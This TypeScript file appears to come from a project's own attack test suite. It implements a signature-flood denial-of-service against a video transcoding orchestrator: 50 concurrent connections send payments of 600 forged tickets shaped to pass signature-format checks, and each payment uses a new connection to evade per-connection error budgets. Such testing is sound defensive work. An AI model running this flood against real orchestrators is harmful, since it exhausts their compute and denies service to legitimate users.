/**
 * badSignatureFlood (issue 9 D5): 50 concurrent connections, each sending `Transcode` requests whose payment
 * carries 600 tickets with signatures of the right shape (65 bytes, low s, v 27/28) that are not the
 * sender's, under real ticket params the orchestrator issued to the attacker's own funded address — so every
 * ticket costs the orchestrator a signature recovery. A new connection per payment: an error budget keyed by
 * connection never refuses it.
 */
import { randomBytes } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { type Address, hexToBytes } from 'viem';
import { privateKeyToAccount } from 'viem/accounts';
import { OrchestratorClient } from '../../src/broadcaster/client.js';
import type { Profile } from '../../src/media/profiles.js';
import type { TicketParams } from '../../src/pm/types.js';
import { paymentToProto, profileToProto } from '../../src/rpc/convert.js';
import type { DigestSigner } from '../../src/rpc/signing.js';
import { type AttackConfig, type AttackResult, pause, Tally } from './common.js';
import { connect, signatureFields, type TranscodeRequestInit, transcodeOnce, withSignature } from './rpc.js';

const CONNECTIONS = 50;
/** The recipient's `maxTicketsPerPayment` today. */
const TICKETS_PER_PAYMENT = 600;
/** Payments in all, whatever the time left. */
const MAX_PAYMENTS = 50_000;

/** `n` signatures that pass the canonical-form check and recover to nobody in particular. */
function badSignatures(n: number): Uint8Array[] {
  return Array.from({ length: n }, () => {
    const sig = randomBytes(65);
    sig[32] = (sig[32] as number) & 0x3f; // s well below n/2: low-s form
    sig[64] = 27 + ((sig[64] as number) & 1);
    return new Uint8Array(sig);
  });
}

/**
 * The flood's request: the attacker's own address as sender (and, where requests are signed, its own valid
 * signature: the sender is who it claims to be, only its tickets are bad), real params, bad tickets, a small
 * valid segment.
 */
async function floodRequest(o: {
  signer: DigestSigner & { address: Address };
  orchestrator: Address;
  params: TicketParams;
  signatures: readonly Uint8Array[];
  segment: Uint8Array;
  profiles: readonly Profile[];
  streamId: string;
  seq: number;
}): Promise<TranscodeRequestInit> {
  const metadata = {
    streamId: o.streamId,
    seq: BigInt(o.seq),
    durationMs: 1000,
    profiles: o.profiles.map(profileToProto),
  };
  const req: TranscodeRequestInit = {
    metadata,
    segment: o.segment,
    payment: paymentToProto({
      sender: o.signer.address,
      params: o.params,
      tickets: o.signatures.map((signature, i) => ({ senderNonce: BigInt(i + 1), signature })),
    }),
  };
  return withSignature(
    req,
    await signatureFields(o.signer, o.orchestrator, o.signer.address, { metadata, segment: o.segment }),
  );
}

export async function badSignatureFlood(
  cfg: AttackConfig,
  signal: AbortSignal,
  hooks: { ready(): void; progress(text: string): void },
): Promise<AttackResult> {
  const tally = new Tally();
  const account = privateKeyToAccount(cfg.attackerKey);
  const signer = account as unknown as DigestSigner & { address: Address };
  // Real params for the attacker's own address, through the project's own negotiation.
  const negotiator = new OrchestratorClient(cfg.orchestratorUrl, cfg.orchestratorAddress, { signer });
  let params: TicketParams;
  try {
    params = (await negotiator.getInfo({}, { timeoutMs: 10_000, signal })).params;
  } finally {
    negotiator.close();
  }
  const signatures = badSignatures(TICKETS_PER_PAYMENT);
  const segment = new Uint8Array(await readFile(cfg.tinySegmentPath));
  const profiles = cfg.profiles.slice(0, 1);
  const streamId = `flood-${hexToBytes(account.address)[19]}`;
  let seq = 0;
  let readyAfter = CONNECTIONS;

  const worker = async () => {
    while (!signal.aborted && tally.sent < MAX_PAYMENTS) {
      // A connection per payment: a new remote port each time.
      const conn = new AbortController();
      const rpc = connect(cfg.orchestratorUrl, AbortSignal.any([signal, conn.signal]), cfg.localAddress);
      tally.sent++;
      tally.add('tickets', TICKETS_PER_PAYMENT);
      const req = await floodRequest({
        signer,
        orchestrator: cfg.orchestratorAddress,
        params,
        signatures,
        segment,
        profiles,
        streamId,
        seq: seq++,
      });
      const r = await transcodeOnce(rpc, req, { timeoutMs: 20_000, signal });
      conn.abort();
      if (signal.aborted) break;
      tally.count(r.outcome);
      // Renditions for a payment of bad tickets were not paid for.
      tally.servedRenditions += r.renditions;
      if (r.params) params = r.params;
      if (--readyAfter === 0) hooks.ready();
      if (r.outcome === 'Unavailable' || r.outcome === 'timeout') await pause(100, signal);
    }
  };
  const timer = setInterval(
    () => hooks.progress(`${tally.sent} payments (${JSON.stringify(tally.outcomes)})`),
    10_000,
  );
  try {
    await Promise.all(Array.from({ length: CONNECTIONS }, worker));
  } finally {
    clearInterval(timer);
  }
  return tally.result();
}
